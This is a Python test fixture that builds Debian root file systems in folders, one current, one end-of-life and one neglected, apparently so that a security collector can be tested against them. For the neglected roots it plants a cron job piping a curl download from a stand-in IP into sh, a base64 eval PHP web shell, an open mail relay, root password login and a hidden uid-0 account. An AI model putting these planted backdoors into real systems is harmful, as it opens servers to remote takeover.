"""Real Debian systems in folders: one up to date, one past its end, one behind with its security updates and badly kept.

debootstrap makes them below build/roots, from the mirrors that this machine's own apt uses. What the network gave is kept for half a
day, so that "up to date" stays true; the roots themselves are copies of it with the files that the tests put in.
Systems with RPM, pacman or apk are not here: a Debian machine has no archive to make them from.
"""

from __future__ import annotations

import contextlib
import fcntl
import functools
import hashlib
import os
import re
import shutil
import subprocess
import time
from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

from tests.packages import find, missing

FOLDER = Path(__file__).resolve().parent.parent.parent / "build" / "roots"
FRESH = 12 * 3600.0  # seconds for which a base counts as up to date
LONGEST = 300.0  # seconds for one command
KEYRING = "/usr/share/keyrings/debian-archive-keyring.gpg"
PACKAGES = "openssh-server,cron,tzdata,procps,hostname,iproute2"
LIVE = ("--mount", "--pid", "--uts", "--ipc", "--net")


class CommandError(Exception):
    """A command failed."""


class ArchiveError(Exception):
    """A root could not be made."""


@dataclass(frozen=True)
class Kind:
    """What a root is.

    Attributes:
        suite: of Debian.
        security: whether it was installed with the security archive's packages, and not only told of them afterwards.
        extra: packages that it has besides the others.
        bad: whether the files of `neglect` are put in.
    """

    suite: str
    security: bool
    extra: tuple[str, ...] = ()
    bad: bool = False


KINDS = {
    "current": Kind("bookworm", security=True, extra=("unattended-upgrades",)),
    "ended": Kind("bullseye", security=True, bad=True),
    "behind": Kind("bookworm", security=False, extra=("postfix",), bad=True),
}

ADDRESSES = {"current": "198.18.7.11", "ended": "198.18.7.12", "behind": "198.18.7.13"}

NEGLECTED = {
    "etc/ssh/sshd_config.d/10-shop.conf": "PermitRootLogin yes\nPasswordAuthentication yes\n",
    "etc/cron.d/refresh": "*/5 * * * * root curl -fsSL http://203.0.113.9/r.sh | sh\n",
    "etc/postfix/main.cf": (
        "myhostname = mail.shop.test\nmynetworks = 0.0.0.0/0\ninet_interfaces = all\n"
        "smtpd_relay_restrictions = permit_mynetworks, reject_unauth_destination\n"
    ),
    "var/www/shop/wp-includes/version.php": "<?php\n$wp_version = '6.4.1';\n",
    "var/www/shop/wp-config.php": "<?php\ndefine( 'DB_PASSWORD', 'correct horse battery' );\n",
    "var/www/shop/wp-content/uploads/2026/cache.php": "<?php eval(base64_decode($_POST['x']));\n",
}
SECRETS = ("correct horse battery", "$6$", "$y$", "PRIVATE KEY")


def mirrors() -> tuple[str, str]:
    """The addresses of Debian's archive and of its security archive, as this machine's apt has them.

    Raises:
        ArchiveError: this machine has none of Debian.
    """
    files = [Path("/etc/apt/sources.list"), *sorted(Path("/etc/apt/sources.list.d").glob("*"))]
    text = "\n".join(f.read_text("utf-8", "replace") for f in files if f.is_file())
    text = re.sub(r"(?m)^\s*#.*$|\[[^\]]*\]", "", text)
    urls = [u.rstrip("/") for u in re.findall(r"\b(?:https?|file|copy)://?[^\s]+", text)]
    main = next((u for u in urls if u.endswith("/debian")), "")
    if not main:
        raise ArchiveError("the apt sources of this machine name no mirror of Debian, so no root can be made")
    return main, next((u for u in urls if u.endswith("/debian-security")), f"{main}-security")


def run(command: Sequence[str], text: str = "") -> str:
    """Runs a command and gives what it wrote.

    Raises:
        CommandError: it failed, or took too long; with its last lines.
    """
    clean = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "LC_ALL": "C.UTF-8", "DEBIAN_FRONTEND": "noninteractive", "HOME": "/root"}
    clean |= {k: v for k, v in os.environ.items() if k.lower().endswith("_proxy")}
    try:
        done = subprocess.run(command, input=text, env=clean, capture_output=True, text=True, timeout=LONGEST, check=False)
    except subprocess.TimeoutExpired:
        raise CommandError(f"{' '.join(command[:6])} took more than {LONGEST:.0f} s") from None
    if done.returncode:
        last = "\n".join((done.stdout + done.stderr).splitlines()[-12:])
        raise CommandError(f"{' '.join(command[:6])} ended with {done.returncode}:\n{last}")
    return done.stdout


def inside(root: Path, *command: str, text: str = "") -> str:
    """Runs a command in a root, in a mount namespace of its own with /proc."""
    line = 'mount -t proc proc "$1/proc" && shift && exec chroot "$@"'
    unshare = find("unshare") or ""
    return run([unshare, "--mount", "--pid", "--fork", "/bin/sh", "-c", line, "sh", str(root), str(root), *command], text)


def roots() -> dict[str, Path]:
    """Name of each of `KINDS` -> its folder; what is missing or too old is made, two at a time.

    Raises:
        ArchiveError: it could not be made, most likely because the archive cannot be reached.
    """
    if os.geteuid() != 0:
        raise ArchiveError(
            "making root file systems needs root; run the tests as root, or leave the laboratory out (make unit)"
        )
    if lacking := missing():
        raise ArchiveError(f"making root file systems needs {', '.join(lacking)}: run `make system-packages`")
    FOLDER.mkdir(parents=True, exist_ok=True)
    FOLDER.chmod(0o755)
    with (FOLDER / "lock").open("wb") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        try:
            return _all()
        except CommandError as error:
            raise ArchiveError(f"no root could be made; is the Debian archive ({mirrors()[0]}) reachable?\n{error}") from error


def _all() -> dict[str, Path]:
    with ThreadPoolExecutor(2) as pool:
        installed = [pool.submit(_installed, suite) for suite in sorted({kind.suite for kind in KINDS.values()})]
        for each in installed:
            each.result()
        _make_key()
        made = {name: pool.submit(_root, name) for name in KINDS}
        return {name: each.result() for name, each in made.items()}


def key() -> Path:
    """The private key that logs in as root in each of the roots."""
    return FOLDER / "key"


@contextlib.contextmanager
def _new(folder: Path, stamp: str) -> Iterator[Path]:
    """A folder in the making; it gets its name when it is complete, and its stamp last."""
    new = folder.with_name(f"{folder.name}.new")
    for old in (folder, new):
        shutil.rmtree(old, ignore_errors=True)
    _stamp(folder).unlink(missing_ok=True)
    yield new
    new.rename(folder)
    _stamp(folder).write_text(stamp, "ascii")


def _stamp(folder: Path) -> Path:
    return folder.with_name(f"{folder.name}.stamp")


def _is(folder: Path, stamp: str) -> bool:
    return _stamp(folder).is_file() and _stamp(folder).read_text("ascii") == stamp and (folder / "etc").is_dir()


def _installed(suite: str) -> Path:
    """A system as the plain archive has it, without security updates. It does not age; new ones are only behind less far."""
    base, stamp = FOLDER / f"{suite}.base", f"{suite} {PACKAGES}"
    if not _is(base, stamp):
        with _new(base, stamp) as new:
            options = ["--variant=minbase", f"--include={PACKAGES}", f"--keyring={KEYRING}"]
            # In a mount namespace of its own, so that its /proc goes with it however it ends.
            run([find("unshare") or "", "--mount", find("debootstrap") or "", *options, suite, str(new), mirrors()[0]])
            (new / "var/log/bootstrap.log").unlink(missing_ok=True)
            shutil.rmtree(new / "var/cache/apt/archives", ignore_errors=True)
            (new / "var/cache/apt/archives/partial").mkdir(parents=True)
    return base


def _updated(name: str, kind: Kind) -> Path:
    """A system whose package lists are of today, and for `security` its packages too."""
    base, stamp = FOLDER / f"{name}.base", f"{kind}"
    if not _is(base, stamp) or time.time() - _stamp(base).stat().st_mtime > FRESH:
        main, security = mirrors()
        with _new(base, stamp) as new:
            run(["cp", "-a", "--reflink=auto", str(FOLDER / f"{kind.suite}.base"), str(new)])
            sources = f"deb {main} {kind.suite} main\ndeb {main} {kind.suite}-updates main\n"
            (new / "etc/apt/sources.list").write_text(f"{sources}deb {security} {kind.suite}-security main\n", "ascii")
            refuse = new / "usr/sbin/policy-rc.d"
            refuse.write_text("#!/bin/sh\nexit 101\n", "ascii")
            refuse.chmod(0o755)
            resolving = new / "etc/resolv.conf"
            shutil.copy("/etc/resolv.conf", resolving)
            # A release past its end has lists whose date has run out.
            inside(
                new, "apt-get", "-q", "-o", "Acquire::Check-Valid-Until=false", "-o", "APT::Update::Error-Mode=any", "update"
            )
            if kind.security:
                inside(new, "apt-get", "-q", "-y", "dist-upgrade")
            if kind.extra:
                inside(new, "apt-get", "-q", "-y", "--no-install-recommends", "install", *kind.extra)
            if "unattended-upgrades" in kind.extra:
                inside(new, "/usr/lib/apt/apt.systemd.daily", "install")
            inside(new, "apt-get", "clean")
            refuse.unlink()
            resolving.unlink()
    return base


def _root(name: str) -> Path:
    kind, folder = KINDS[name], FOLDER / name
    base = _updated(name, kind)
    recipe = hashlib.sha256(Path(__file__).read_bytes()).hexdigest()
    stamp = f"{recipe} {_stamp(base).stat().st_mtime_ns}"
    if not _is(folder, stamp):
        with _new(folder, stamp) as new:
            run(["cp", "-a", "--reflink=auto", str(base), str(new)])
            _settle(name, new)
            if kind.bad:
                neglect(new)
    return folder


def _make_key() -> None:
    if not key().with_suffix(".pub").exists():
        key().unlink(missing_ok=True)
        run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "laboratory", "-f", str(key())])


def _settle(name: str, root: Path) -> None:
    """What every server has: a name, an identity, a way in, and the folder that OpenSSH's start script makes."""
    (root / "etc/hostname").write_text(f"{name}.shop.test\n", "ascii")
    (root / "etc/network").mkdir(exist_ok=True)
    (root / "etc/network/interfaces").write_text(f"iface eth0 inet static\n  address {ADDRESSES[name]}/24\n", "ascii")
    (root / "etc/machine-id").write_text(hashlib.sha256(name.encode()).hexdigest()[:32] + "\n", "ascii")
    (root / "run/sshd").mkdir(mode=0o755, exist_ok=True)
    (root / "root/.ssh").mkdir(mode=0o700, exist_ok=True)
    allowed = root / "root/.ssh/authorized_keys"
    allowed.write_text(key().with_suffix(".pub").read_text("ascii"), "ascii")
    allowed.chmod(0o600)


def neglect(root: Path) -> None:
    """Puts in what a badly kept server has: log-in by password as root, a foreign cron job, an open relay, a shell in a web site."""
    for path, text in NEGLECTED.items():
        file = root / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, "ascii")
    inside(root, "useradd", "--create-home", "--shell", "/bin/bash", "shop")
    inside(root, "useradd", "--non-unique", "--uid", "0", "--shell", "/bin/bash", "support")
    inside(root, "chpasswd", text="shop:correct horse battery\nsupport:correct horse battery\n")


@dataclass(frozen=True)
class Live:
    """A root with processes, a name and a network of its own, in which commands can be run.

    Attributes:
        root: its folder.
        process: whose namespaces these are.
    """

    root: Path
    process: int

    def command(self, *words: str) -> list[str]:
        """The command with which this machine runs a command in it."""
        enter = [find("nsenter") or "", "--target", str(self.process), *LIVE]
        return [*enter, "chroot", str(self.root), *words]

    def collect(self, script: str, *options: str, shell: Sequence[str] = ("/bin/sh",)) -> str:
        """What the collector writes when it is run in it."""
        return run(self.command(*shell, "-s", "--", *options), script)


@contextlib.contextmanager
def live(root: Path) -> Iterator[Live]:
    """Brings a root to life, as far as a folder can be: it runs no services of its own."""
    line = """
        hostname "$(cat "$1/etc/hostname")" && mount -t proc proc "$1/proc" && ip link set lo up || exit
        ip link add eth0 type veth peer name far && ip address add "$2/24" dev eth0 && ip link set eth0 up && echo && exec sleep infinity"""
    options = [find("unshare") or "", *LIVE, "--fork", "--kill-child"]
    with subprocess.Popen(
        [*options, "/bin/sh", "-c", line, "sh", str(root), ADDRESSES[root.name]], stdout=subprocess.PIPE
    ) as process:
        try:
            assert process.stdout is not None
            assert process.stdout.readline() == b"\n", "no namespaces could be made"
            children = Path(f"/proc/{process.pid}/task/{process.pid}/children").read_text("ascii").split()
            yield Live(root, int(children[0]))
        finally:
            process.kill()


@functools.cache
def _content(path: str, *_same: int) -> str:
    """What is in a file: read once for as long as the kernel says that nobody has written to it."""
    with open(path, "rb") as file:
        return hashlib.file_digest(file, "sha256").hexdigest()


def snapshot(root: Path, *, anew: bool = False) -> dict[str, tuple[object, ...]]:
    """Path -> kind and rights, owner, size, times of change of content and of the rest, and what is in it, for everything below a root.

    Args:
        anew: reads every file, whatever the kernel says.
    """
    if anew:
        _content.cache_clear()
    found: dict[str, tuple[object, ...]] = {}
    for folder, folders, files in os.walk(root):
        for name in [*folders, *files, ""]:
            path = os.path.join(folder, name) if name else folder
            seen = os.lstat(path)
            content = ""
            if os.path.islink(path):
                content = os.readlink(path)
            elif os.path.isfile(path):
                # A file's time of change is the kernel's own: no program can set it back.
                content = _content(path, seen.st_dev, seen.st_ino, seen.st_size, seen.st_mtime_ns, seen.st_ctime_ns)
            found[path] = (seen.st_mode, seen.st_uid, seen.st_gid, seen.st_size, seen.st_mtime_ns, seen.st_ctime_ns, content)
    return found
